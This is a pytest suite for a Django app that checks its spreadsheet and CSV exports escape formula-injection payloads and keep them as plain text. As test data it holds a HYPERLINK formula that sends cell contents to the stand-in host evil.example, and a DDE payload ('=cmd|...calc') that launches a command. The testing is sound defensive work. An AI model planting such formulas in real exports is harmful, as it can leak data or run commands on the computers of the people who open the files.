"""Spreadsheet formula injection: user text never becomes a live formula in an export.

Every text field of every record of the access matrix's dataset is set to a formula (the kind a
secretary could type into a narrative: ``=HYPERLINK(...)``); every Excel export a person can
download must then hold that text as text (openpyxl ``data_type`` "s", never "f"), and the
register's CSV files must start no cell with ``=``, ``+``, ``-`` or ``@`` while importing them back
gives exactly the stored text.
"""
import csv
import io
import pathlib
import zipfile

import openpyxl
import pytest
from django.apps import apps
from django.db import models
from django.urls import reverse

from common.export import FORMULA_TRIGGERS, csv_text, csv_text_read
from organizations.models import Organization, PartyOrg
from register.exporting import register_export
from register.importing import register_import
from tests.registers import OWN_REGISTER

from ..test_permission_matrix import url_of
from ..test_query_counts import LISTS
from ..urlmatrix import build_dataset

pytestmark = pytest.mark.django_db
PROJECT_APPS = ("organizations", "members", "reports", "targets", "register", "accounts")
EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
KEEP = {"password", "username", "credit_code", "content_type", "file", "email", "key", "township", "industry"}


def poison_every_text_field():
    """Every CharField/TextField without choices of every row: a formula (unique where it must be)."""
    poisoned = 0
    for model in apps.get_models():
        if model._meta.app_label not in PROJECT_APPS or model.__name__.startswith("Historical"):
            continue
        fields = [f for f in model._meta.concrete_fields
                  if isinstance(f, (models.CharField, models.TextField)) and not f.choices
                  and not isinstance(f, models.FileField) and f.name not in KEEP]
        for obj in model.objects.all():
            for field in fields:
                value = f'=HYPERLINK("http://evil.example/{obj.pk}","x")'
                if field.max_length and len(value) > field.max_length:
                    value = f"={obj.pk}+1"
                setattr(obj, field.name, value)
                poisoned += 1
            if fields:
                model.objects.filter(pk=obj.pk).update(**{f.name: getattr(obj, f.name) for f in fields})
    return poisoned


@pytest.fixture
def data(unit, unit_secretary, county_staff, settings, tmp_path):
    settings.MEDIA_ROOT = str(tmp_path / "media")
    dataset = build_dataset(unit, secretary=unit_secretary, staff=county_staff)
    assert poison_every_text_field() > 50
    return dataset


def workbook_of(response):
    content = b"".join(response.streaming_content) if response.streaming else response.content
    assert response.status_code == 200
    return openpyxl.load_workbook(io.BytesIO(content))


def formula_texts(workbook):
    """(text cells that start with "=", formula cells) of a workbook."""
    texts, formulas = [], []
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    formulas.append((sheet.title, cell.coordinate, cell.value))
                elif isinstance(cell.value, str) and cell.value.startswith("="):
                    texts.append(cell.value)
    return texts, formulas


def export_urls(data):
    urls = [(name, url_of(name, data) + "?_export=xlsx") for name in sorted(LISTS)]
    report = data["report"]
    urls += [("reports:halfyearreport_xlsx", reverse("reports:halfyearreport_xlsx", args=[report.pk])),
             ("reports:period_overview_xlsx", reverse("reports:period_overview_xlsx", args=[report.year, report.half])),
             ("audit:audit", reverse("audit:audit") + "?_export=xlsx"),
             ("register:register_export", reverse("register:register_export") + "?format=xlsx")]
    return urls


def test_no_export_holds_a_formula_made_of_user_text(client, data, county_staff):
    client.force_login(county_staff)
    reached = 0
    for name, url in export_urls(data):
        texts, formulas = formula_texts(workbook_of(client.get(url)))
        assert not formulas, (name, formulas[:3])
        reached += bool(texts)
    # the poisoned text did reach the exports (as text): the check above looked at real cells
    assert reached >= 10


def test_a_secretarys_exports_hold_no_formula_either(client, data, unit_secretary):
    client.force_login(unit_secretary)
    report = data["report"]
    for url in [url_of(name, data) + "?_export=xlsx" for name in sorted(LISTS)
                if name != "audit:audit"] + [reverse("reports:halfyearreport_xlsx", args=[report.pk])]:
        response = client.get(url)
        if response.status_code != 200:
            continue  # pages a secretary may not open are checked by the permission matrix
        texts, formulas = formula_texts(workbook_of(response))
        assert not formulas, (url, formulas[:3])


def test_the_report_narrative_export_keeps_the_hyperlink_as_text(client, data, county_staff):
    report = data["report"]
    type(report).objects.filter(pk=report.pk).update(work_done=EVIL)
    client.force_login(county_staff)
    workbook = workbook_of(client.get(reverse("reports:halfyearreport_xlsx", args=[report.pk])))
    cells = [c for sheet in workbook.worksheets for row in sheet.iter_rows() for c in row if c.value == EVIL]
    assert cells and all(c.data_type == "s" for c in cells)


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "'=1", "''", "'x", "x", "", "'"])
def test_csv_text_escapes_formulas_and_reads_back_exactly(text):
    cell = csv_text(text)
    assert not cell.startswith(FORMULA_TRIGGERS)
    assert csv_text_read(cell) == text


def _csv_cells(folder: pathlib.Path):
    for path in sorted(folder.glob("*.csv")):
        with open(path, encoding="utf-8", newline="") as handle:
            for row in list(csv.reader(handle))[1:]:
                yield path.name, row


VALUES = ["=SUM(A1:A9)", "+86 123", "-甲公司", "@someone", "'=已转义", "'普通", "''双引号"]


def test_register_csv_export_escapes_and_round_trips_exactly(tmp_path):
    assert register_import(OWN_REGISTER).ok
    orgs = list(Organization.objects.order_by("credit_code")[:len(VALUES)])
    for org, value in zip(orgs, VALUES):
        Organization.objects.filter(pk=org.pk).update(name=value, owner_name=value[:50])
    PartyOrg.objects.filter(pk=PartyOrg.objects.order_by("code").first().pk).update(name="=cmd|' /C calc'!A0")

    first, second = tmp_path / "first", tmp_path / "second"
    register_export(first)
    for name, row in _csv_cells(first):
        assert not any(cell.startswith(("=", "+", "-", "@")) for cell in row), (name, row)

    again = register_import(first)  # the same register: nothing may change
    assert again.ok, again.errors
    assert all(c.added == c.updated == 0 for c in again.counts.values()), again.as_dict()["counts"]
    assert sorted(Organization.objects.filter(pk__in=[o.pk for o in orgs]).values_list("name", flat=True)) \
        == sorted(VALUES)
    register_export(second)
    for path in sorted(first.glob("*.csv")):
        assert path.read_bytes() == (second / path.name).read_bytes(), path.name


def test_register_workbook_keeps_formula_like_text_as_text(tmp_path):
    assert register_import(OWN_REGISTER).ok
    org = Organization.objects.order_by("credit_code").first()
    Organization.objects.filter(pk=org.pk).update(name=VALUES[0])
    register_export(tmp_path / "register.xlsx")
    workbook = openpyxl.load_workbook(tmp_path / "register.xlsx")
    texts, formulas = formula_texts(workbook)
    assert not formulas and VALUES[0] in texts
    assert register_import(tmp_path / "register.xlsx").counts["organizations"].updated == 0


def test_the_register_zip_download_escapes_its_csv_cells(client, county_staff):
    assert register_import(OWN_REGISTER).ok
    Organization.objects.filter(pk=Organization.objects.first().pk).update(name=EVIL)
    client.force_login(county_staff)
    response = client.get(reverse("register:register_export"), {"format": "zip"})
    archive = zipfile.ZipFile(io.BytesIO(b"".join(response.streaming_content)))
    text = archive.read("organizations.csv").decode("utf-8")
    assert "'" + EVIL.replace('"', '""') in text
    assert not any(line.split(",")[1].startswith("=") for line in text.splitlines()[1:])
